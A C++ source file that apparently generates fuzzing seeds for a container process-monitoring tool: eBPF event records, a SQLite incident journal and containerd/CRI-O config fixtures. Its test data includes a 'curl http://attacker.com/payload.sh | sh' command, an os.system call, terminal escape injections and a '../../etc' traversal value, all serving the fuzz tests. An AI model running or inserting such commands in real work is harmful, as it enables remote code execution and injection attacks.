// Writes the generated seeds of testdata/fuzz/ (the /proc, cgroup and time
// seeds are plain text files, copied from real hosts):
//
//   make_seeds testdata/fuzz
//
// event_decode/*.bin: ring-buffer records laid out with the structs of
// bpf/events.h, exactly as the BPF programs fill them.
//
// journal/incident.journal: the unit tests' incident (a pod whose shell downloads
// and runs a payload) through JournalWriter, plus what the incident lacks: a
// loss, a killed process, an IPv6 connect that failed and hostile argv.
// journal/incident-512.journal is the same journal with 512-byte pages (VACUUM):
// a quarter of the size, so mutations land on rows rather than free space.
//
// oci_config/*: config.json files as containerd's CRI plugin and CRI-O write
// them (a container and a pause sandbox each), hostile ones, linux.cgroupsPath
// values of both cgroup drivers, and runtime execs (binary path, then argv,
// NUL-separated) as containerd's shim and a shell run them.
#include <sqlite3.h>
#include <sys/socket.h>

#include <algorithm>
#include <cstdio>
#include <cstring>
#include <filesystem>
#include <fstream>
#include <string>
#include <vector>

#include "event.h"
#include "events.h"
#include "fixture_journal.h"

using namespace fixture;
using namespace std::string_literals;

namespace {

// ---------------------------------------------------------------- events

template <size_t N>
void put(char (&dst)[N], const std::string& s) {
    std::memset(dst, 0, N);
    std::memcpy(dst, s.data(), std::min(s.size(), N));
}

lineage_proc proc(uint32_t tgid, uint64_t start_ns) {
    lineage_proc p{};
    p.tgid = tgid;
    p.start_ns = start_ns;
    return p;
}

template <typename T>
std::string bytes_of(const T& record) {
    return std::string(reinterpret_cast<const char*>(&record), sizeof(record));
}

void write_file(const std::string& path, const std::string& bytes) {
    std::ofstream(path, std::ios::binary | std::ios::trunc)
        .write(bytes.data(), static_cast<std::streamsize>(bytes.size()));
}

// binary | cgroup names, leaf first, each NUL-terminated | argv
std::string exec_record(const std::string& binary, const std::vector<std::string>& cgroup_leaf_first,
                        const std::string& argv, uint32_t flags) {
    std::string cgroup;
    for (const auto& name : cgroup_leaf_first) cgroup += name + '\0';
    lineage_exec_event e{};
    e.hdr.type = LINEAGE_EV_EXEC;
    e.hdr.size = static_cast<uint32_t>(sizeof(e) + binary.size() + cgroup.size() + argv.size());
    e.hdr.time_ns = at(1042, 501'000'000);
    e.proc = proc(18293, at(1042, 500'012'345));
    e.parent = proc(18201, at(1000, 123'456'789));
    e.cgroup_id = 8812;
    e.nspid = 27;
    e.old_tid = 18293;
    e.uid = e.gid = e.euid = 1000;
    e.flags = flags;
    e.binary_len = static_cast<uint16_t>(binary.size());
    e.cgroup_len = static_cast<uint16_t>(cgroup.size());
    e.argv_len = static_cast<uint16_t>(argv.size());
    put(e.comm, "sh");
    put(e.parent_comm, "my-app");
    put(e.nodename, kIncidentPodName);
    return bytes_of(e) + binary + cgroup + argv;
}

void write_event_seeds(const std::string& dir) {
    lineage_fork_event f{};
    f.hdr = {LINEAGE_EV_FORK, sizeof(f), at(1042, 500'012'345)};
    f.parent = proc(18201, at(1000, 123'456'789));
    f.child = proc(18293, at(1042, 500'012'345));
    put(f.parent_comm, "my-app");
    write_file(dir + "/fork.bin", bytes_of(f));

    const std::string uid = "7c9e6679_7425_40de_944b_e07fc1f90ae7";
    const std::vector<std::string> pod_cgroup_names{"cri-containerd-" + kIncidentContainer + ".scope",
                                                    "kubepods-burstable-pod" + uid + ".slice",
                                                    "kubepods-burstable.slice", "kubepods.slice"};
    write_file(dir + "/exec.bin",
               exec_record("/bin/sh", pod_cgroup_names, "sh\0-c\0curl http://attacker.com/payload.sh | sh\0"s, 0));
    // Cut by the argv cap: no trailing NUL, and the truncation flags set.
    write_file(dir + "/exec-truncated.bin",
               exec_record("/usr/bin/python3", {"session-3.scope", "user-1000.slice", "user.slice"},
                           "python3\0-c\0import os; os.system('id')\0\x1b]0;x\x07\xff"s,
                           LINEAGE_EXEC_ARGV_TRUNCATED | LINEAGE_EXEC_CGROUP_TRUNCATED));

    lineage_exit_event x{};
    x.hdr = {LINEAGE_EV_EXIT, sizeof(x), at(1061)};
    x.proc = proc(18300, at(1060, 111'222'333));
    x.exit_code = 9 | 0x80;  // SIGKILL, core dumped
    put(x.comm, "sh");
    write_file(dir + "/exit-killed.bin", bytes_of(x));
    x.exit_code = 2 << 8;  // exit 2
    write_file(dir + "/exit-code.bin", bytes_of(x));

    lineage_connect_event c{};
    c.hdr = {LINEAGE_EV_CONNECT, sizeof(c), at(1043, 350'000'000)};
    c.proc = proc(18296, at(1043, 200'000'002));
    c.syn_time_ns = at(1043, 340'000'000);
    c.family = AF_INET;
    c.sport = 43512;
    c.dport = 80;
    c.result = LINEAGE_CONNECT_OK;
    const uint8_t s4[] = {10, 244, 1, 17}, d4[] = {93, 184, 216, 34};
    std::memcpy(c.saddr, s4, 4);
    std::memcpy(c.daddr, d4, 4);
    write_file(dir + "/connect4.bin", bytes_of(c));
    c.family = AF_INET6;
    c.dport = 443;
    c.result = LINEAGE_CONNECT_FAILED;
    const uint8_t s6[16] = {0xfd, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0x17};
    const uint8_t d6[16] = {0x20, 0x01, 0x0d, 0xb8, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1};
    std::memcpy(c.saddr, s6, 16);
    std::memcpy(c.daddr, d6, 16);
    write_file(dir + "/connect6.bin", bytes_of(c));
}

// ---------------------------------------------------------------- journal

int sql(const std::string& path, int flags, const std::string& statements) {
    sqlite3* db = nullptr;
    int rc = sqlite3_open_v2(path.c_str(), &db, flags, nullptr);
    char* err = nullptr;
    if (rc == SQLITE_OK) rc = sqlite3_exec(db, statements.c_str(), nullptr, nullptr, &err);
    if (rc != SQLITE_OK) {
        std::fprintf(stderr, "make_seeds: %s: %s\n", path.c_str(), err ? err : sqlite3_errmsg(db));
    }
    sqlite3_free(err);
    sqlite3_close(db);
    return rc == SQLITE_OK ? 0 : 1;
}

// The source stays exactly as JournalWriter left it (WAL mode included).
int compact_copy(const std::string& from, const std::string& to) {
    if (sql(from, SQLITE_OPEN_READONLY, "VACUUM INTO '" + to + "';") != 0) return 1;
    return sql(to, SQLITE_OPEN_READWRITE, "PRAGMA journal_mode=DELETE; PRAGMA page_size=512; VACUUM;");
}

int write_journal_seeds(const std::string& dir) {
    FixtureJournal fx = incident_fixture();
    const std::string pod_cg = pod_cgroup(kIncidentPodUid, kIncidentContainer);

    // A second shell in the pod: hostile argv, killed by SIGKILL with a core,
    // an IPv6 connect that failed, and events lost while it ran.
    Proc sh = FixtureJournal::proc(18300, at(1060, 111'222'333));
    fx.fork(FixtureJournal::proc(18201, at(1000, 123'456'789)), sh, at(1060, 111'222'333));
    ExecOpts opts;
    opts.cgroup = pod_cg;
    opts.nodename = kIncidentPodName;
    opts.nspid = 41;
    opts.truncated = lineage::kArgvTruncated;
    opts.raw_argv = "sh\0-c\0printf '\x1b]0;owned\x07'\0\xe2\x80\xae\xff\xfe"s;
    fx.exec(sh, "/bin/sh", {}, at(1060, 112'000'000), opts);
    fx.connect(sh, "2001:db8::1", 443, at(1060, 300'000'000), false, "fd00::17", 51234, 6);
    fx.loss(at(1060, 400'000'000), at(1060, 900'000'000), 17);
    fx.exit(sh, at(1061), 0, 9, true);

    std::error_code ec;
    const std::string full = dir + "/incident.journal";
    const std::string small = dir + "/incident-512.journal";
    std::filesystem::remove(full, ec);
    std::filesystem::remove(small, ec);
    fx.write(full);
    int rc = compact_copy(full, small);
    // Reading a WAL journal leaves an empty -wal and a -shm beside it.
    std::filesystem::remove(full + "-wal", ec);
    std::filesystem::remove(full + "-shm", ec);
    return rc;
}

// ---------------------------------------------------------------- oci_config

void write_oci_config_seeds(const std::string& dir) {
    const std::string uid = "1b2c3d4e-0000-4a5b-8c9d-0123456789ab";
    const std::string uid_ = "1b2c3d4e_0000_4a5b_8c9d_0123456789ab";
    const std::string cid = "d78c990c760b4f1a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c4d5e6f708192";
    const std::string sandbox = "9e8d7c6b5a49382716051f2e3d4c5b6a798897a6b5c4d3e2f10213243546576a";
    auto containerd = [&](const std::string& type, const std::string& id) {
        return R"({"ociVersion":"1.1.0","process":{"args":["/bin/api","--port","8080"],"cwd":"/"},)"
               R"("root":{"path":"rootfs"},"annotations":{"io.kubernetes.cri.container-type":")" +
               type + R"(","io.kubernetes.cri.sandbox-id":")" + sandbox +
               R"(","io.kubernetes.cri.sandbox-name":"ledger-api-7b9c8-k2m4p",)"
               R"("io.kubernetes.cri.sandbox-namespace":"finance","io.kubernetes.cri.sandbox-uid":")" +
               uid +
               R"(","io.kubernetes.cri.container-name":"api",)"
               R"("io.kubernetes.cri.image-name":"registry.example.test/ledger/api:1.4.2"},)"
               R"("linux":{"cgroupsPath":"kubepods-besteffort-pod)" +
               uid_ + ".slice:cri-containerd:" + id + R"(","namespaces":[{"type":"pid"},{"type":"mount"}]}})";
    };
    auto crio = [&](const std::string& type, const std::string& id) {
        return R"({"ociVersion":"1.0.2-dev","annotations":{"io.kubernetes.cri-o.ContainerType":")" + type +
               R"(","io.kubernetes.cri-o.ImageName":"registry.example.test/ledger/api:1.4.2",)"
               R"("io.kubernetes.pod.name":"ledger-api-7b9c8-k2m4p","io.kubernetes.pod.namespace":"finance",)"
               R"("io.kubernetes.pod.uid":")" +
               uid + R"(","io.kubernetes.container.name":"api"},"linux":{"cgroupsPath":"/kubepods/burstable/pod)" +
               uid + "/" + id + R"("}})";
    };
    write_file(dir + "/containerd-container.json", containerd("container", cid));
    write_file(dir + "/containerd-sandbox.json", containerd("sandbox", sandbox));
    write_file(dir + "/crio-container.json", crio("container", cid));
    write_file(dir + "/crio-sandbox.json", crio("sandbox", sandbox));
    write_file(dir + "/hostile-escapes.json",
               R"({"annotations":{"io.kubernetes.cri.container-name":"api\u001b]0;owned\u0007\r\n\u0000",)"
               R"("io.kubernetes.cri.image-name":42,"io.kubernetes.pod.uid":"../../etc"},"linux":"x"})");
    write_file(dir + "/hostile-nesting.json", R"({"process":[[[[[[[[{"annotations":{}}]]]]]]]],"annotations":[]})");
    write_file(dir + "/truncated.json", containerd("container", cid).substr(0, 200));
    write_file(dir + "/cgroups-systemd", "kubepods-burstable-pod" + uid_ + ".slice:crio:" + cid);
    write_file(dir + "/cgroups-cgroupfs", "/kubepods/besteffort/pod" + uid + "/" + cid);
    write_file(dir + "/cgroups-other", "system.slice:runc:" + cid);
    auto argv = [](const std::vector<std::string>& parts) {
        std::string out;
        for (size_t i = 0; i < parts.size(); ++i) out += (i ? "\0"s : ""s) + parts[i];
        return out;
    };
    write_file(dir + "/argv-shim", argv({"/usr/sbin/runc", "runc", "--root", "/run/containerd/runc/k8s.io", "--log",
                                         "/run/containerd/t/log.json", "--log-format", "json", "--systemd-cgroup",
                                         "create", "--bundle", "/run/containerd/t/" + cid, "--pid-file",
                                         "/run/containerd/t/init.pid", "--console-socket", "/tmp/pty.sock", cid}));
    write_file(dir + "/argv-run", argv({"/usr/bin/crun", "crun", "run", "-d", "-b=/b", "--", "id1"}));
    write_file(dir + "/argv-runsc",
               argv({"/usr/bin/runsc", "runsc", "--root=/run/runsc", "create", "-bundle", "/b", "x"}));
    write_file(dir + "/argv-start", argv({"/usr/sbin/runc", "runc", "start", "id1"}));
}

}  // namespace

int main(int argc, char** argv) {
    if (argc != 2) {
        std::fprintf(stderr, "usage: make_seeds TESTDATA_FUZZ_DIR\n");
        return 2;
    }
    const std::string root = argv[1];
    std::error_code ec;
    std::filesystem::create_directories(root + "/event_decode", ec);
    std::filesystem::create_directories(root + "/journal", ec);
    std::filesystem::create_directories(root + "/oci_config", ec);
    write_event_seeds(root + "/event_decode");
    write_oci_config_seeds(root + "/oci_config");
    return write_journal_seeds(root + "/journal");
}
